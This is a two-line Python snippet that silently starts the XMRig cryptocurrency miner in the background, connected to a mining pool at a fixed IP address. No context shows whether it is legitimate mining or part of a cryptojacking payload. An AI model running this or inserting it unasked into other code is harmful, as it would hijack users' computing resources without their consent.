import subprocess
subprocess.Popen(['./xmrig', '-o', 'stratum+tcp://198.51.100.4:3333', '-u', 'w'])
